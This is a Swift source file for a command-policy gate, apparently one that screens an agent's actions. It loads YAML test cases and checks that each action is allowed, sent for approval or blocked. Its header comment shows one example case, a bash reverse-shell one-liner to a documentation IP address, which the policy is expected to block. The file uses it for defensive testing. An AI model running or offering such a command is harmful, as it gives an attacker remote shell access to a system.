// Policy test files for `cordon test`: a policy and the decisions it must give.
//
//   policy: ../default.yaml            # relative to this file; `default` = the embedded one
//   cases:
//     - name: a reverse shell is blocked          # optional; defaults to the command
//       command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"   # or argv: [...], or tool: + args:
//       expect: block                               # allow | requires_approval | block
//       min_score: 80                               # optional bounds, and the deciding rule
//       rule: reverse-shell
//       environment: production                    # optional, with action_type and context
import CordonGate
import CordonPolicy

public struct PolicyTestCase: Sendable {
    public var name: String
    public var action: Action
    public var expect: DecisionKind
    public var minScore: Int?
    public var maxScore: Int?
    public var rule: String?
    public var location: SourceLocation
}

public struct PolicyTestFile: Sendable {
    public var path: String
    /// The policy path as resolved against the test file's directory, or nil for the default.
    public var policyPath: String?
    public var cases: [PolicyTestCase]

    static let caseKeys: Set<String> = [
        "name", "command", "argv", "tool", "args", "environment", "action_type", "context", "expect", "min_score",
        "max_score", "rule",
    ]

    public static func load(_ path: String) throws(PolicyError) -> PolicyTestFile {
        let start = SourceLocation(file: path, line: 1, column: 1)
        let bytes: [UInt8]
        do {
            bytes = try AuditError.readFile(path)
        } catch {
            throw PolicyError(start, "cannot read the test file: \(error.errno.map(errnoString) ?? error.message)")
        }
        let root = try TestYAML.parse(bytes, file: path)
        guard case .mapping(let top, _) = root else {
            throw PolicyError(root.location, "a test file is a mapping with policy: and cases:")
        }
        for (k, v) in top where k != "policy" && k != "cases" {
            throw PolicyError(v.location, "unknown key '\(k)' (expected policy, cases)")
        }
        guard let p = root["policy"]?.scalar, !p.isEmpty else {
            throw PolicyError(root.location, "missing 'policy:' (a path, or 'default')")
        }
        let policyPath: String?
        if p == "default" {
            policyPath = nil
        } else if p.hasPrefix("/") {
            policyPath = p
        } else {
            let dir = path.split(separator: "/", omittingEmptySubsequences: false).dropLast().joined(separator: "/")
            policyPath = normalize(dir.isEmpty ? p : dir + "/" + p)
        }
        guard case .sequence(let items, _)? = root["cases"] else {
            throw PolicyError(root["cases"]?.location ?? root.location, "'cases:' must be a list of cases")
        }
        var cases: [PolicyTestCase] = []
        for item in items { cases.append(try parseCase(item, index: cases.count + 1)) }
        return PolicyTestFile(path: path, policyPath: policyPath, cases: cases)
    }

    /// `a/b/../c` → `a/c`, `./x` → `x`: paths as people read them in output.
    static func normalize(_ path: String) -> String {
        var out: [Substring] = []
        for c in path.split(separator: "/", omittingEmptySubsequences: false) {
            if c == "." { continue }
            if c == "..", let last = out.last, last != "..", !last.isEmpty {
                out.removeLast()
                continue
            }
            out.append(c)
        }
        let s = out.joined(separator: "/")
        return s.isEmpty ? "." : s
    }

    static func parseCase(_ node: TestYAML, index: Int) throws(PolicyError) -> PolicyTestCase {
        guard case .mapping(let pairs, let loc) = node else {
            throw PolicyError(node.location, "a case must be a mapping")
        }
        for (k, v) in pairs where !caseKeys.contains(k) {
            throw PolicyError(
                v.location,
                "unknown key '\(k)' in a case (expected one of \(caseKeys.sorted().joined(separator: ", ")))")
        }
        func string(_ k: String) throws(PolicyError) -> String? {
            guard let v = node[k] else { return nil }
            guard let s = v.scalar else { throw PolicyError(v.location, "'\(k)' must be a string") }
            return s
        }
        func int(_ k: String) throws(PolicyError) -> Int? {
            guard let s = try string(k) else { return nil }
            guard let n = Int(s), (0...100).contains(n) else {
                throw PolicyError(node[k]?.location ?? loc, "'\(k)' must be 0-100")
            }
            return n
        }
        let id = "t-\(loc.line)"
        let payload: Action.Payload
        let kinds = ["command", "argv", "tool"].filter { node[$0] != nil }
        guard kinds.count == 1 else { throw PolicyError(loc, "a case needs exactly one of command:, argv: or tool:") }
        if let c = try string("command") {
            payload = .shell(c)
        } else if let a = node["argv"] {
            guard case .sequence(let items, _) = a, !items.isEmpty else {
                throw PolicyError(a.location, "'argv' must be a non-empty list")
            }
            var argv: [String] = []
            for i in items {
                guard let s = i.scalar else { throw PolicyError(i.location, "'argv' items must be strings") }
                argv.append(s)
            }
            payload = .argv(argv)
        } else {
            payload = .tool(name: try string("tool") ?? "", args: node["args"]?.json ?? .object([]))
        }
        var action = Action(id: id, payload: payload)
        action.environment = try string("environment")
        action.actionType = try string("action_type")
        if let ctx = node["context"] {
            guard case .mapping(let cp, _) = ctx else { throw PolicyError(ctx.location, "'context' must be a mapping") }
            for (k, v) in cp { action.context[k] = v.scalar ?? v.json.serialized() }
        }
        guard let e = try string("expect") else {
            throw PolicyError(loc, "missing 'expect:' (allow, requires_approval or block)")
        }
        guard let expect = DecisionKind(rawValue: e) else {
            throw PolicyError(
                node["expect"]?.location ?? loc, "'expect: \(e)' must be allow, requires_approval or block")
        }
        let name = try string("name") ?? String(decoding: ActionCoding.commandBytes(action), as: UTF8.self)
        return PolicyTestCase(
            name: name, action: action, expect: expect, minScore: try int("min_score"), maxScore: try int("max_score"),
            rule: try string("rule"), location: loc)
    }
}

public struct PolicyTestOutcome: Sendable {
    public var testCase: PolicyTestCase
    public var decision: Decision
    /// Why it failed, one sentence each; empty when it passed.
    public var failures: [String]
    public var passed: Bool { failures.isEmpty }
}

public enum PolicyTestRunner {
    public static func run(_ c: PolicyTestCase, policy: Policy) -> PolicyTestOutcome {
        let d = Gate.evaluate(c.action, policy: policy)
        var f: [String] = []
        if d.decision != c.expect { f.append("expected \(c.expect.rawValue), got \(d.decision.rawValue)") }
        if let m = c.minScore, d.score < m { f.append("expected score >= \(m), got \(d.score)") }
        if let m = c.maxScore, d.score > m { f.append("expected score <= \(m), got \(d.score)") }
        if let r = c.rule, d.policyRule != r { f.append("expected rule \(r), got \(d.policyRule ?? "none")") }
        return PolicyTestOutcome(testCase: c, decision: d, failures: f)
    }
}
